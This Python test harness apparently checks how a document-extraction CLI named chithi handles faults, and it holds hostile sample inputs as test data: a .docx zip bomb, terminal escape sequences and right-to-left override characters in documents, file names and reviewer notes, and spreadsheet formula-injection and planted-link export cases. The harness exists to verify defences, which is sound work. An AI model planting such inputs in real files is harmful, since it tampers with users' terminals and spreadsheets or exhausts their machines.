_MISSING = "chithi: error: {0}: the folder {1} does not exist (create it, or give {2} a file in an existing folder)"

CASES: list[Case] = [
    Case("docx_zip_bomb", _case_docx_bomb, 5, lambda small: (
        f"chithi: error: bomb.docx: word/document.xml inflates to {_bomb_mb(300 if small else 1500)} MB, over the "
        "256 MB limit on one .docx part (raise the limit with --max-docx-part-mb)")),
    Case("docx_out_of_memory_in_batch", _case_docx_oom, 1, None, check=_all(_stored("o.db", 1), _lines(
        "chithi: failed: in/big.docx: out of memory under the 400 MiB limit (raise the limit with --max-memory-mb)"
    ))),
    Case("pdf_page_100in", _case_pdf_page(100), 0, None, check=lambda tmp, p: _downscaled_noted(p)),
    Case("pdf_page_200in", _case_pdf_page(200), 0, None, check=lambda tmp, p: _downscaled_noted(p)),
    Case("tiff_second_frame_20000px", _case_tiff, 5,
         "chithi: error: frame2.tif: frame 2 of the image is 20000×20000 px, over the 40 megapixel limit "
         "(scan at 300 dpi or split the image, or raise the limit with --max-megapixels)"),
    Case("blank_pdf_pages", _case_blank, 0, None, check=lambda tmp, p: _blank_noted(p, 200 if "small" in tmp.name
                                                                                    else 2000)),
    Case("pdf_over_page_limit", _case_pages, 5,
         "chithi: error: pages.pdf: 1001 pages, over the 1000 page limit (raise the limit with --max-pages)"),
    Case("text_1300000_chars", _case_long_text, 0, None, check=_stored("l.db", 1)),
    Case("text_over_char_limit", _case_too_long, 5,
         "chithi: error: huge.txt: the text has 2,100,000 characters, over the 2,000,000 character limit "
         "(split the document, or raise the limit with --max-chars)"),
    Case("fifo_on_command_line", _case_fifo_cli, 5,
         "chithi: error: x.txt: is a FIFO (named pipe), not a regular file (only regular files are read)"),
    Case("fifo_in_folder", _case_fifo_batch, 1, None, check=_all(_stored("f.db", 1), _lines(
        "chithi: failed: in/x.txt: is a FIFO (named pipe), not a regular file (only regular files are read)"))),
    Case("symlink_loops", _case_loops, 0, None, check=_stored("s.db", 1)),
    Case("damaged_db_open", _damaged(["search", "bảo hiểm"], first=0.0), 8,
         _DAMAGED.replace("database error", "cannot open the database")),
    Case("damaged_db_search", _damaged(["search", "bảo hiểm"]), 8,
         _DAMAGED.replace("database disk image is malformed", "vtable constructor failed: search_fts")),
    Case("damaged_db_deadlines", _damaged(["deadlines"]), 8, _DAMAGED),
    Case("damaged_db_export", _damaged(["export", "--format", "jsonl"]), 8, _DAMAGED),
    Case("damaged_db_ingest", _damaged(["ingest", "good.txt", "--force", "--quiet"]), 8,
         _DAMAGED.replace("database error: database disk image is malformed",
                          "cannot store good.txt: vtable constructor failed: search_fts")),
    Case("query_100kb", _case_query, 2,
         "chithi: error: the query has 100,000 characters, over the 1,000 character limit (search for fewer words)"),
    Case("query_65_words", _case_terms, 2,
         "chithi: error: the query has 65 words, over the 64 word limit (search for fewer words)"),
    Case("review_out_missing_folder", _out_missing(["review", str(SEED), "--out", "no/r.html"]), 3, None),
    Case("export_out_missing_folder", _out_missing(["export", "--format", "csv", "--db", "d.db", "--out",
                                                   "no/e.csv"]), 3, None),
    Case("ics_missing_folder", _out_missing(["deadlines", "--db", "d.db", "--ics", "no/d.ics"]), 3, None),
    Case("disk_full_creating_schema", _case_disk_full, 8,
         "chithi: error: full.db: cannot open the database: disk I/O error (is the disk full or failing? check "
         "free space and the disk)", limits={"fsize": 8192}),
    Case("control_characters_in_document", _case_controls, 0, None,
         check=_all(_stdout_has("Về việc[31m tăng cường bảo hiểm yt y tế", absent=_RAW), _record_clean("c.db"))),
    Case("control_characters_in_store", _case_old_store, 0, None,
         check=_stdout_has("Về việc\\x1b[31m", "\\u202eyt\\u202c", absent=_RAW)),
    Case("utf16_without_bom", _case_utf16, 0, None, check=_stdout_has(VI.strip())),
    Case("latin1_text", _case_latin1, 0, None, check=_stdout_has(WESTERN.strip())),
    Case("doc_timeout_in_batch", _case_timeout, 1, None, check=_all(_stored("t.db", 1), _lines(
        "chithi: failed: in/scan.pdf: took longer than the 5 s limit on one document (raise the limit with "
        "--doc-timeout)"))),
    Case("undecodable_file_names", _case_undecodable_names, 1,
         "chithi: failed: in/h\\xf4ng\\x1b.docx: not a valid .docx file (BadZipFile) (re-save it from "
         "Word/LibreOffice as .docx)", check=_all(_stored("n.db", 1),
                                                  _stored_paths("n.db", "in/ch\\xe9 th\\xfe.txt", "in/h\\xf4ng\x1b.docx"))),
    Case("debug_keeps_exit_code", lambda tmp, small: ["--debug", "extract", "missing.txt"], 3,
         "chithi: error: missing.txt: no such file (check the path)",
         check=_lines("pipeline.core.errors.InputMissingError: missing.txt: no such file")),
    Case("html_3000_unclosed_font_tags", lambda tmp, small: ["extract", deep_html(tmp / "f.html", 3000).name], 0,
         None, check=_record_has("01/CT-UBND", 4, "html_too_deep")),
    Case("html_5000_nested_divs", lambda tmp, small: ["extract", deep_html(tmp / "d.html", 5000, "div").name], 5,
         "chithi: error: d.html: the HTML page nests elements deeper than 2,047 levels, and all its text (10,437 "
         "letters and digits) is below that depth (open and re-save the page in a browser)"),
    Case("scheduler_silent_listener", _case_scheduler("silent"), 9,
         _no_scheduler("cannot reach the Dask scheduler at {} within 3 s"), limits={"seconds": 15}),
    Case("scheduler_http_server", _case_scheduler("http"), 9,
         _no_scheduler("cannot reach the Dask scheduler at {} within 3 s"), limits={"seconds": 15}),
    Case("scheduler_ws_silent_listener", _case_scheduler("silent", "ws"), 9,
         _no_scheduler("cannot reach the Dask scheduler at {} within 3 s"), limits={"seconds": 15}),
    *[Case(f"scheduler_{scheme}", _case_scheduler("", scheme), 9, _no_scheduler(
        f"cannot reach the Dask scheduler at {{}}: chithi is not set up for {scheme}:// schedulers",
        "give the scheduler's tcp:// address, through an SSH tunnel if it must be encrypted"), limits={"seconds": 15})
      for scheme in ("tls", "wss", "ucx", "inproc")],
    Case("workers_1000_for_ten_files", _case_many_workers("--workers", "1000"), 0, None, check=_all(
        _stored("w.db", 10), _lines(f"chithi: note: --workers 1000 capped at {os.cpu_count()}: this machine has "
                                    f"{os.cpu_count()} cores"))),
    Case("workers_over_memory", _case_many_workers("--workers", "2", "--max-memory-mb", "100000000"), 0, None,
         check=_all(_stored("w.db", 10), _line_starts(
             "chithi: note: --workers 2 capped at 1: 1 worker of --max-memory-mb 100000000 fit in the memory "
             "available, "))),
    Case("db_locked_by_another_writer", _case_locked(None), 8,
         "chithi: error: d.db: another program has been writing to the database for 2 s: gave up (wait for the "
         "other writer, e.g. another chithi ingest, to finish, or raise --busy-timeout)",
         check=_all(_lines(_WAITING.format(2)))),
    Case("db_locked_then_released", _case_locked(8.0), 0, None,
         check=_all(_lines(_WAITING.format(30)), _stored("d.db", 2))),
    *[Case(f"scan_mode_{name}", _case_scan_mode(mode, suffix), 0, None,
           check=_number_and_date("17/CT-UBND", "2024-03-19"))
      for name, mode, suffix in (("16bit_gray", "I;16", ".png"), ("alpha", "RGBA", ".png"), ("cmyk", "CMYK", ".tif"),
                                 ("1bit", "1", ".tif"), ("palette", "P", ".png"))],
    # issue 21: outputs that cannot be turned against their users
    Case("export_csv_formulas_and_controls", _case_export("csv"), 0, None, check=_csv_safe),
    Case("export_xlsx_formulas_and_controls", _case_export("xlsx"), 0, None, check=_xlsx_safe),
    Case("export_disk_full_keeps_previous", _case_export_disk_full, 3, lambda small: (
        f"chithi: error: full/e.csv: cannot write: {_LISTENERS['errno']} (free some disk space, or write "
        "somewhere else; the previous e.csv, if any, is kept as it was)"), check=_previous_kept, limits=_FULL_LIMITS),
    Case("review_page_over_planted_link", _case_planted(["review", DOC1, "--db", "d.db", "--out", "r.html"],
                                                        "r.html.tmp"), 0, None, check=_links_harmless("r.html")),
    Case("xlsx_export_over_planted_links", _case_planted(["export", "--format", "xlsx", "--db", "d.db", "--out",
                                                          "e.xlsx"], "e.xlsx.tmp", "e.xlsx"), 0, None,
         check=_links_harmless("e.xlsx")),
    Case("ics_and_timeline_over_links", _case_planted(["deadlines", "--db", "d.db", "--ics", "d.ics", "--html",
                                                       "t.html"], "d.ics", "t.html"), 0, None,
         check=_links_harmless("d.ics", "t.html")),
    Case("doc_named_docx", _case_misnamed("doc_named_docx"), 0, None,
         check=_read_as("application/msword", ".docx", "a .doc document", ".doc"), limits={"seconds": 120}),
    Case("pdf_named_txt", _case_misnamed("pdf_named_txt"), 0, None,
         check=_read_as("application/pdf", ".txt", "a PDF", ".pdf"), limits={"seconds": 120}),
    Case("docx_named_doc", _case_misnamed("docx_named_doc"), 0, None, check=_read_as(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document", ".doc", "a .docx document",
        ".docx")),
    Case("html_named_txt", _case_misnamed("html_named_txt"), 0, None,
         check=_read_as("text/html", ".txt", "an HTML page", ".html")),
    Case("pdf_without_suffix", _case_misnamed("pdf_no_suffix"), 0, None,
         check=_read_as("application/pdf", "(none)", "a PDF", ".pdf"), limits={"seconds": 120}),
    # issue 21: reviewers' decisions are checked, all of them, before any is stored
    Case("decision_impossible_date", _case_decisions([
        {"item": "t1", "decision": "accept"},
        {"item": "meta-issued_date", "decision": "correct", "value": "31/02/2025"}]), 2,
         "chithi: error: a.json: decision 2 (meta-issued_date): '31/02/2025' is not a day between 1900 and 2100 "
         "(write the issue date as DD/MM/YYYY)", check=_reviews("d.db", None)),
    Case("decision_deadline_9999", _case_decisions([{"item": "d1", "decision": "correct", "value": "9999"}]), 2,
         _DEC + "(d1): '9999' is not a date between 1900 and 2100 (write the deadline as DD/MM/YYYY, MM/YYYY or "
         "YYYY)", check=_reviews("d.db", None)),
    Case("decision_400_digit_target", _case_decisions([{"item": "t1", "decision": "correct",
                                                         "value": "9" * 400 + " %"}]), 2,
         _DEC + "(t1): the number '" + "9" * 40 + "' is not finite or over 1e+15 (write the target's number as "
         "digits, e.g. 96% or 2.900 hộ)", check=_reviews("d.db", None)),
    Case("decision_item_not_in_record", _case_decisions(
        [{"item": "t1", "decision": "accept"}],
        [{"item": "t1", "decision": "accept"}] + [{"item": f"t{i}", "decision": "accept"} for i in range(5, 2000)]),
         2, "chithi: error: b.json: decision 2 (t5): the stored record of bac282dc27c08b5d has no item 't5' "
         "(download the decisions from the document's current review page)", check=_reviews("d.db", None)),
    Case("decision_note_too_long", _case_decisions([{"item": "t1", "decision": "accept", "note": "x" * 5000}]), 2,
         _DEC + "(t1): the note has 5,000 characters, over the 4,000 character limit (shorten the note)",
         check=_reviews("d.db", None)),
    Case("decision_file_too_big", _big_note_file, 5, lambda small: (
        f"chithi: error: a.json: the decisions file is {9 if small else 100} MiB, over the 8 MiB limit (give the "
        "JSON the review page downloads)"), check=_reviews("d.db", None)),
    Case("decision_controls_removed", _case_decisions([
        {"item": "t1", "decision": "correct", "value": "Hoa\u0300\x07n tha\u0300nh 100%", "note": "\u202eđúng\x1b[2J"}]),
         0, None, check=_reviews("d.db", {"t1": ("correct", "Hoàn thành 100%", "đúng[2J")})),
    Case("decision_latest_wins", _case_decisions(
        [{"item": "t1", "decision": "reject", "decided_at": _T0}],      # the newer file first
        [{"item": "t1", "decision": "accept", "decided_at": _T1}]), 0,  # then an older one: it must not undo it
         None, check=_reviews("d.db", {"t1": ("reject", None, None)}, history=2)),
]


# -- running ---------------------------------------------------------------------------------------------------

def _child_limits(address_space: int, fsize: int | None):
    def pre() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (address_space, address_space))
        if fsize is not None:
            signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # writes past the size fail with EFBIG, like a full disk
            resource.setrlimit(resource.RLIMIT_FSIZE, (fsize, fsize))
    return pre


def run_case(case: Case, tmp: Path, small: bool) -> dict:
    """Build the case in ``tmp``, run chithi on it in a bounded child; exit code, seconds, peak RSS (MiB) of the
    child and its worker processes."""
    args = case.build(tmp, small)
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    env.pop("CHITHI_LIMITS", None)
    cmd = [sys.executable, "-c", _RUNNER, *args]
    t0 = time.monotonic()
    try:
        proc = subprocess.run(cmd, cwd=tmp, capture_output=True, text=True, env=env,
                              timeout=case.limits.get("seconds", TIME_LIMIT) + 30,
                              preexec_fn=_child_limits(case.limits.get("address_space", MEMORY_LIMIT),
                                                       case.limits.get("fsize")))
    except BaseException:
        unmount()
        raise
    seconds = time.monotonic() - t0
    if case.check is None:
        unmount()
    peak = 0
    for ln in proc.stderr.splitlines():
        if ln.startswith("@peak "):
            peak = int(ln.split()[1])
    proc.stderr = "\n".join(ln.replace(f"{tmp}/", "") for ln in proc.stderr.splitlines()
                            if not ln.startswith("@peak ")) + "\n"  # batch paths are absolute: shown relative
    last = proc.stderr.strip().splitlines()[-1] if proc.stderr.strip() else ""
    return {"case": case.name, "code": proc.returncode, "seconds": seconds, "peak_mib": peak / 2**20,
            "last": last, "proc": proc}


# The child: chithi's main (sys.argv[0] is "-c"), then the peak resident memory of this process and of its finished children
# (RUSAGE_CHILDREN: the workers and Tesseract), the larger of the two, on stderr.
_RUNNER = """
import resource, sys
from pipeline.cli import main
try:
    rc = main()  # as the program: argv from sys.argv
finally:
    me = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    kids = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
    print(f"@peak {max(me, kids) * 1024}", file=sys.stderr)
sys.exit(rc)
"""


def check_case(case: Case, result: dict, tmp: Path, small: bool) -> list[str]:
    """What is wrong with a result (empty: as expected)."""
    problems = []
    if result["code"] != case.code:
        problems.append(f"exit {result['code']}, expected {case.code}: {result['last']}")
    line = case.line(small) if callable(case.line) else case.line
    if line is not None and result["last"] != line:
        problems.append(f"last stderr line {result['last']!r}, expected {line!r}")
    if result["seconds"] > TIME_LIMIT:
        problems.append(f"{result['seconds']:.1f} s, over {TIME_LIMIT:g} s")
    if result["peak_mib"] > 1024:
        problems.append(f"{result['peak_mib']:.0f} MiB resident, over 1 GiB")
    if case.check is not None:
        try:
            case.check(tmp, result["proc"])
        except AssertionError as e:
            problems.append(str(e) or "check failed")
        except Exception as e:  # noqa: BLE001 - e.g. no JSON on stdout: the case failed, the others still run
            problems.append(f"check failed: {type(e).__name__}: {' '.join(str(e).split())[:150]}")
    return problems


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--small", action="store_true", help="test-size bombs")
    ap.add_argument("-k", default="", help="only cases whose name contains this")
    a = ap.parse_args(argv)
    print(f"{'case':32} {'exit':>4} {'seconds':>8} {'peak MiB':>9}  result")
    bad = 0
    for case in CASES:
        if a.k not in case.name:
            continue
        with tempfile.TemporaryDirectory(prefix="chithi-fault-" + ("small-" if a.small else "")) as d:
            r = run_case(case, Path(d), a.small)
            problems = check_case(case, r, Path(d), a.small)
        bad += bool(problems)
        print(f"{case.name:32} {r['code']:>4} {r['seconds']:>8.1f} {r['peak_mib']:>9.0f}  "
              f"{'ok' if not problems else '; '.join(problems)}", flush=True)
        print(f"{'':32} {r['last'][:150]}")
    return 1 if bad else 0


if __name__ == "__main__":
    sys.exit(main())
